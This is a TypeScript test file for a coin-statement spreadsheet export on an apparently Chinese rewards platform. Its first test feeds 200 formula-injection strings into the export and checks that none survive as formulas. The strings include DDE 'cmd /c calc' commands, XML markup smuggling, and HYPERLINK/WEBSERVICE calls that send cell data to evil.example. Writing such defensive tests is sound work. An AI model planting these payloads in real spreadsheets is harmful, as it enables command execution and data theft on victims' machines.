import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readWorkbook } from '../../../../test/read-workbook.ts';
import { testPlatform, type TestPlatform } from '../../../../test/system/test-platform.ts';
import { transfer } from '../posting/ledger.ts';
import { statementFile } from './statement-file.ts';

let system: TestPlatform;
beforeAll(async () => {
  system = await testPlatform();
});
afterAll(() => system.stop());

const collect = async (content: AsyncIterable<Uint8Array>): Promise<Buffer> => {
  const chunks: Uint8Array[] = [];
  for await (const chunk of content) chunks.push(chunk);
  return Buffer.concat(chunks);
};

const earn = async (memberId: string, key: string, title: string, at: Date, note?: string): Promise<void> => {
  await system.platform.database.transaction((tx) =>
    transfer(tx, {
      key,
      memberId,
      reason: 'earned',
      cause: { kind: 'participation', id: key, title },
      ...(note !== undefined && { note }),
      legs: [{ asset: 'coin', amount: 10, platform: 'issue' }],
      at,
    }),
  );
};

const download = async (memberId: string, query: Parameters<typeof statementFile>[2] = {}) => {
  const file = await statementFile(system.platform, memberId, query);
  return { name: file.name, ...readWorkbook(await collect(file.content)) };
};

/** Texts that make a spreadsheet program calculate, run or fetch something, in forms that are known to pass filters. */
const openers = [
  '=',
  '+',
  '-',
  '@',
  '＝',
  '＋',
  '－',
  '＠',
  '|',
  '%',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '\u0000=',
  '\ufeff=',
  '=\u0000',
  "'=",
  '"=',
  ';=',
];
const payloads = [
  '1+1',
  'cmd|/c calc!A0',
  'HYPERLINK("http://evil.example/?"&A1,"看")',
  'WEBSERVICE("http://evil.example")',
  'IMPORTXML("http://evil.example","//a")',
  'DDE("cmd","/c calc","x")',
  'SUM(1;2)</t></is></c><c><f>1+1</f></c>',
  '<f>1+1</f>',
  '&lt;f&gt;1+1&lt;/f&gt;',
  '1]]><f>1</f>',
];

describe('statement of coins as a workbook', () => {
  it('X3 formula injection: 200 payloads as titles and reasons, re-read, are 0 formulas and no markup of ours', async () => {
    const memberId = system.platform.random.uuid();
    const texts = openers.flatMap((opener) => payloads.map((payload) => opener + payload));
    expect(texts).toHaveLength(200);
    const storable = texts.map((text) => text.replaceAll('\u0000', ''));
    for (const [index, text] of storable.entries())
      await earn(memberId, `x3-${index}`, text, new Date('2026-11-21T08:30:00.000Z'), text);
    const { rows, formulas, reachesOut } = await download(memberId);
    expect(formulas).toBe(0);
    expect(reachesOut).toBe(false);
    expect(rows).toHaveLength(201);
    expect(rows.every((row) => row.length === 9 || row.length === 8)).toBe(true);
    expect(rows.flat().filter((cell) => /^[\s\ufeff]*[=+@|%＝＋－＠]/u.test(cell))).toEqual([]);
  });

  it('names every row with its time in Shanghai, source, state, balance and number to quote', async () => {
    const memberId = system.platform.random.uuid();
    await earn(memberId, 'a', '早餐习惯小调查', new Date('2026-11-20T16:30:00.000Z'));
    const { name, rows } = await download(memberId);
    expect(name).toMatch(/^\d{18}\.xlsx$/);
    expect(rows[0]).toEqual([
      '时间',
      '来源',
      '说明',
      '金币',
      '状态',
      '变动后余额',
      '预计到账',
      '原因',
      '查询编号',
    ]);
    expect(rows[1]?.slice(0, 6)).toEqual([
      '2026-11-21 00:30:00',
      '任务',
      '早餐习惯小调查',
      '10',
      '已到账',
      '10',
    ]);
    expect(rows[1]?.at(-1)).toMatch(/^[0-9A-F]{4}-[0-9A-F]{4}$/);
  });

  it('holds the days asked for, in Shanghai, both ends included', async () => {
    const memberId = system.platform.random.uuid();
    const times = [
      '2026-11-18T15:59:59.999Z',
      '2026-11-18T16:00:00.000Z',
      '2026-11-20T15:59:59.999Z',
      '2026-11-20T16:00:00.000Z',
    ];
    for (const [index, time] of times.entries())
      await earn(memberId, `d${index}`, `第 ${index} 笔`, new Date(time));
    const { rows } = await download(memberId, { from: '2026-11-19', to: '2026-11-20' });
    expect(rows.slice(1).map((row) => row[2])).toEqual(['第 2 笔', '第 1 笔']);
    await expect(download(memberId, { from: '2026-11-21', to: '2026-11-20' })).rejects.toMatchObject({
      name: 'STATEMENT_PERIOD_INVALID',
    });
  });

  it('has only its heading when the member has no rows, even if others have some', async () => {
    await earn(system.platform.random.uuid(), 'a', '别人的任务', new Date('2026-11-20T16:30:00.000Z'));
    expect((await download(system.platform.random.uuid())).rows).toHaveLength(1);
  });
});
